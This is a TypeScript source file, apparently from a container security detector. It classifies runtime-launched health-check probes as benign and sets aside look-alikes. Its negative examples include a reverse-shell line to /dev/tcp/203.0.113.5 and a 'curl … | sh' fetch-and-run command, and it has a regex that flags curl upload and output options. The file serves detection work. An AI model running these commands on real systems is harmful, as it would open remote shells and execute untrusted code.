import type { CommandLine, SimpleCommand } from "#alert/command-line.ts";
import type { Facts } from "#alert/facts.ts";
import { isHidden, isWorldWritablePlace } from "#alert/paths.ts";
import type { BenignEvidence, BenignPattern } from "../benign.ts";
import { executing, inContainer, onHost } from "./examples.ts";
import { callsOf, isContradicted, isFromImage, isUndisputed } from "./trust.ts";

/** Health checks that a container runtime or kubelet runs in a container every few seconds. */

/** What the runtime starts a probe with. */
const runtimes: ReadonlySet<string> = new Set([
  "runc",
  "crun",
  "containerd-shim",
  "containerd-shim-runc-v2",
  "containerd-shim-",
  "conmon",
  "dockerd",
  "kubelet",
  "youki",
  "runc:[2:INIT]",
  "tini",
  "dumb-init",
  "sh",
]);

/** Programs that only ask whether a service is up, and the arguments that keep it so. */
const askers: ReadonlyMap<string, (words: readonly string[]) => boolean> = new Map([
  ["pg_isready", () => true],
  ["mysqladmin", (words) => words.some((word) => word === "ping" || word === "status")],
  ["mariadb-admin", (words) => words.some((word) => word === "ping" || word === "status")],
  ["redis-cli", (words) => words.some((word) => word.toLowerCase() === "ping")],
  ["valkey-cli", (words) => words.some((word) => word.toLowerCase() === "ping")],
  ["grpc_health_probe", () => true],
  ["grpc-health-probe", () => true],
  [
    "rabbitmq-diagnostics",
    (words) => words.some((word) => word === "ping" || word.startsWith("check_") || word === "status" || word === "-q"),
  ],
  ["etcdctl", (words) => words.includes("endpoint") && words.includes("health")],
  ["test", () => true],
  ["[", () => true],
  ["exec", () => true],
  ["ping_readiness_local.sh", () => true],
  ["ping_liveness_local.sh", () => true],
  ["healthcheck", () => true],
  ["healthcheck.sh", () => true],
  ["docker-healthcheck", () => true],
  ["health-check.sh", () => true],
  ["readiness.sh", () => true],
  ["liveness.sh", () => true],
  ["true", () => true],
  ["exit", () => true],
  ["sleep", () => true],
  ["curl", asksOwnHealth],
  [
    "wget",
    (words) =>
      asksOwnHealth(words) &&
      words.some(
        (word, at) =>
          word === "--spider" ||
          /^-[a-zA-Z]*O(?:\/dev\/null|-)$/.test(word) ||
          (/^-[a-zA-Z]*O$/.test(word) && words[at + 1] !== undefined),
      ),
  ],
  ["nc", (words) => words.includes("-z") && words.some(isOwnName)],
  [
    "grep",
    (words) =>
      words.every((word) => !word.startsWith("/") || word.startsWith("/proc/") || word.startsWith("/dev/null")),
  ],
  ["cat", (words) => words.every((word) => ["/tmp/healthy", "/tmp/ready", "/tmp/health", "/tmp/alive"].includes(word))],
]);

/** Asking programs that are compiled, so that their executable says what they are. */
const compiled: ReadonlySet<string> = new Set([
  "pg_isready",
  "mysqladmin",
  "mariadb-admin",
  "redis-cli",
  "valkey-cli",
  "grpc_health_probe",
  "grpc-health-probe",
  "etcdctl",
  "curl",
]);

const binaryFolders = ["/bin/", "/usr/bin/", "/usr/local/bin/", "/opt/bitnami/", "/usr/lib/postgresql/", "/usr/sbin/"];

export const healthProbePatterns: readonly BenignPattern[] = [
  {
    id: "health-probe",
    activity: "A health check asks whether the service in the container is up",
    distinguishing: [
      "The same command runs in the same container every few seconds, as the pod's livenessProbe or the image's HEALTHCHECK says.",
      "It asks the container's own address and prints or throws away the answer; nothing is saved, piped into a shell or sent on.",
      "The runtime starts it directly, without a terminal; a person's `kubectl exec` mostly has one.",
    ],
    families: ["syscall"],
    explains: [
      "runs-shell",
      "exec-into-container",
      "program-spawns-shell",
      "downloads-file",
      "uses-network-tool",
      "connects-outside",
    ],
    match: probeEvidence,
    examples: {
      proven: [
        inContainer(
          "pg_isready",
          "/usr/lib/postgresql/16/bin/pg_isready",
          "runc",
          executing("pg_isready -U shop -d shop -h 127.0.0.1"),
        ),
        inContainer("redis-cli", "/usr/local/bin/redis-cli", "containerd-shim", executing("redis-cli ping")),
        inContainer("curl", "/usr/bin/curl", "containerd-shim", executing("curl -fsS http://localhost:8080/healthz")),
      ],
      named: [
        inContainer("sh", "/usr/bin/dash", "runc", executing("sh -c pg_isready -U postgres || exit 1")),
        inContainer(
          "sh",
          "/bin/busybox",
          "runc",
          executing("sh -c wget -q -O /dev/null http://127.0.0.1:3000/health || exit 1"),
        ),
        inContainer("redis-cli", "", "runc", executing("redis-cli -a secret ping")),
        inContainer("sh", "/usr/bin/dash", "containerd-shim", executing("sh -c test -f /tmp/ready")),
        inContainer(
          "sh",
          "/usr/bin/dash",
          "containerd-shim",
          executing('sh -c exec pg_isready -U "postgres" -h 127.0.0.1 -p 5432'),
        ),
      ],
      ignored: [
        inContainer("sh", "/usr/bin/dash", "runc", executing("sh -c pg_isready; curl http://203.0.113.5/x | sh")),
        inContainer("sh", "/usr/bin/dash", "runc", executing("sh -c /tmp/healthcheck.sh")),
        inContainer("sleep", "/usr/bin/sleep", "containerd-shim", executing("sleep 300000")),
        inContainer("curl", "/usr/bin/curl", "runc", executing("curl -fsS http://203.0.113.5/health")),
        inContainer("curl", "/usr/bin/curl", "runc", executing("curl -fsS -o /usr/bin/x http://localhost:8080/health")),
        inContainer("redis-cli", "/tmp/redis-cli", "runc", executing("redis-cli ping")),
        inContainer("sh", "/usr/bin/dash", "runc", { ...executing("sh -c pg_isready"), "proc.tty": 34816 }),
        inContainer("sh", "/usr/bin/dash", "nginx", executing("sh -c pg_isready")),
        onHost(
          "sh",
          "/usr/bin/dash",
          "bash",
          executing("sh -c test -f /x && bash -i >& /dev/tcp/203.0.113.5/443 0>&1"),
        ),
      ],
    },
  },
];

function probeEvidence(facts: Facts): BenignEvidence | null {
  const { command, terminal, name, exepath } = facts.process;
  if (terminal === true || facts.container.where === "host" || !isStartedByRuntime(facts)) return null;
  if (!isProbe(command)) return null;
  if (isContradicted({ ...facts, process: { ...facts.process, command: withoutPieces(command) } }, [])) return null;
  const quote = callsOf(facts, "execve", "execveat", "clone", "vfork");
  if (quote === null) return null;
  const [first] = command.commands;
  const own =
    exepath !== null &&
    compiled.has(first?.program ?? "") &&
    exepath.endsWith(`/${first?.program}`) &&
    name === first?.program;
  const places = exepath !== null && binaryFolders.some((folder) => exepath.startsWith(folder));
  const proven =
    own &&
    places &&
    command.commands.length === 1 &&
    isFromImage(facts) &&
    isUndisputed(facts) &&
    facts.reliable("proc.exepath") &&
    facts.container.where === "container";
  return proven
    ? {
        strength: "proven",
        quote: command.text || quote,
        because: `the kernel names the executable ${exepath} in the image's own layers, and its arguments only ask the container itself whether it is up`,
      }
    : {
        strength: "named",
        quote: command.text || quote,
        because: "the command is one that health checks use, started by the runtime; anybody could run the same",
      };
}

/** Every command in it only asks; what a shell joins them with does not matter, what they redirect does. */
function isProbe(command: CommandLine): boolean {
  const { commands } = command;
  if (commands.length === 0 || commands.length > 6) return false;
  if (commands.every(({ program }) => ["sleep", "true", "exit", "sh", "bash", "ash", "dash"].includes(program)))
    return false;
  return commands.every(
    (simple) =>
      simple.redirections.every(({ target }) => target === "/dev/null" || target === "1" || target === "2") &&
      isAsking(simple),
  );
}

function isAsking({ program, programPath, words }: SimpleCommand): boolean {
  if (isWorldWritablePlace(programPath) || isHidden(programPath)) return false;
  const values = words.slice(1).map((word) => word.value);
  if (["sh", "bash", "ash", "dash"].includes(program))
    return values.some((word) => word === "-c" || word === "-ec" || word === "-lc");
  return askers.get(program)?.(values) === true;
}

function isStartedByRuntime(facts: Facts): boolean {
  const { name } = facts.parent;
  return name === null || runtimes.has(name);
}

/** The check for odd pieces is done word by word here: `curl` and addresses are what a probe is made of. */
function withoutPieces(command: CommandLine): CommandLine {
  return { ...command, text: "", commands: command.commands.slice(0, 1) };
}

/** Only its own address, only a path that speaks of health, nothing sent and nothing kept. */
function asksOwnHealth(words: readonly string[]): boolean {
  const targets = words.filter(
    (word) => !word.startsWith("-") && (word.includes("://") || isOwnName(word.split(/[:/]/, 1)[0] ?? "")),
  );
  if (targets.length !== 1 || !isOwnHealth(targets[0] ?? "")) return false;
  return words.every((word, at) => {
    if (!word.startsWith("-")) return true;
    if (/^-[a-zA-Z]*[oO]$/.test(word) || word === "--output" || word === "--output-document")
      return words[at + 1] === "/dev/null" || words[at + 1] === "-";
    if (word === "-X") return words[at + 1] === "GET" || words[at + 1] === "HEAD";
    if (/^-[a-zA-Z]*O(?:\/dev\/null|-)$/.test(word)) return true;
    return !/^-[a-zA-Z]*[cdDeFiKPTxO]|^--(?:data|form|upload|config|proxy|post|request|method|body|execute|input|dump|cookie-jar|trace|stderr|directory|remote-name|json|url-query|unix-socket|abstract|resolve|connect-to|warc|save)/.test(
      word,
    );
  });
}

function isOwnHealth(target: string): boolean {
  const url = URL.parse(target.includes("://") ? target : `http://${target}`);
  if (
    url === null ||
    (url.protocol !== "http:" && url.protocol !== "https:") ||
    url.username !== "" ||
    url.password !== ""
  )
    return false;
  return (
    isOwnName(url.hostname) &&
    /^\/(?:(?:api|actuator|v\d|-|_)\/)?(?:health|healthz|healthy|healthcheck|health-check|live|livez|liveness|ready|readyz|readiness|ping|status|up|alive|_cluster\/health)?(?:\/(?:live|ready|liveness|readiness))?\/?$/.test(
      url.pathname,
    )
  );
}

function isOwnName(name: string): boolean {
  return ["localhost", "127.0.0.1", "[::1]", "::1", "0.0.0.0"].includes(name);
}
